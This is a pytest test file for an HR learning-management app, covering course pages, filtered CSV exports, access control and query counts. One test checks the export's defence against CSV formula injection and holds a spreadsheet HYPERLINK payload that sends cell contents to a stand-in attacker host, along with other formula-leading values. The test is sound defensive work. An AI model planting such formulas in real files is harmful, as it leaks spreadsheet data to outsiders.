"""Courses for HR and their export."""

import csv
import io
from collections.abc import Callable

import pytest

from lms.services import assigning, people
from tests.cast import NOW, Cast, Player
from tests.journey import finish
from tests.obligations import assign_to, enrolment_of
from tests.page import PageClient
from tests.queries import counted

As = Callable[[Player], PageClient]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def rows(client: PageClient, path: str) -> list[dict[str, str]]:
    answer = client.get(path)
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    text = answer.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_who_has_not_is_what_one_sees_first(cast: Cast, as_: As, small: str) -> None:
    assign_to(cast, small, cast.ana.id, cast.omar.id)
    finish(cast.ana)
    page = as_(cast.hana).get("/hr/courses/small").text
    assert "Omar Haddad" in page and "Ana Duarte" not in page


def test_the_state_and_department_stand_in_the_address(cast: Cast, as_: As, small: str) -> None:
    assign_to(cast, small, cast.ana.id, cast.omar.id)
    page = as_(cast.hana).get("/hr/courses/small?state=has_not&department=Showrooms").text
    assert "Ana Duarte" in page and "Omar Haddad" not in page
    assert "/hr/courses/small/people.csv?state=has_not&amp;department=Showrooms" in page


def test_the_export_tells_the_ladder_of_each_person(cast: Cast, as_: As, small: str) -> None:
    assign_to(cast, small, cast.ana.id, cast.omar.id)
    finish(cast.ana)
    ana, omar = rows(as_(cast.hana), "/hr/courses/small/people.csv?state=all")
    assert (ana["status"], ana["version"], ana["signed"]) == ("completed", "1.0", "2026-11-23T09:30:00.000Z")
    assert (omar["status"], omar["due"], omar["opened"], omar["manager"]) == ("assigned", "2026-12-14", "", "")


def test_the_export_follows_the_filters(cast: Cast, as_: As, small: str) -> None:
    assign_to(cast, small, cast.ana.id, cast.omar.id)
    assigning.waive(cast.hana.id, enrolment_of(cast.omar.id).id, "On leave", NOW)
    assert [row["given_name"] for row in rows(as_(cast.hana), "/hr/courses/small/people.csv?state=waived")] == ["Omar"]


def test_no_cell_is_a_formula(cast: Cast, as_: As, small: str) -> None:
    details = people.Details("x@ostrelle.example", FORMULA[:90], "\u00a0@SUM(A1)", location="-2+3", department="+x")
    evil = people.add(cast.hana.id, details, NOW)
    assign_to(cast, small, evil)
    row = rows(as_(cast.hana), "/hr/courses/small/people.csv")[0]
    assert all(row[name].startswith("'") for name in ("given_name", "family_name", "location", "department"))


def test_a_course_that_is_not_there_has_no_page_and_no_file(cast: Cast, as_: As) -> None:
    hana = as_(cast.hana)
    assert [hana.get(f"/hr/courses/nothing{end}").status_code for end in ("", "/people.csv")] == [404, 404]


@pytest.mark.parametrize("who", ["ana", "marc", "omar", "ines"])
@pytest.mark.parametrize("path", ["", "/small", "/small/people.csv"])
def test_courses_are_for_hr(cast: Cast, as_: As, small: str, path: str, who: str) -> None:
    assert as_(getattr(cast, who)).get(f"/hr/courses{path}").status_code == 403


@pytest.mark.parametrize("path", ["", "/small", "/small?state=all", "/small/people.csv"])
def test_each_page_stays_within_its_queries(cast: Cast, as_: As, small: str, path: str) -> None:
    assign_to(cast, small, cast.ana.id, cast.omar.id)
    hana = as_(cast.hana)
    with counted() as statements:
        assert hana.get(f"/hr/courses{path}").status_code == 200
    assert len(statements) <= 12
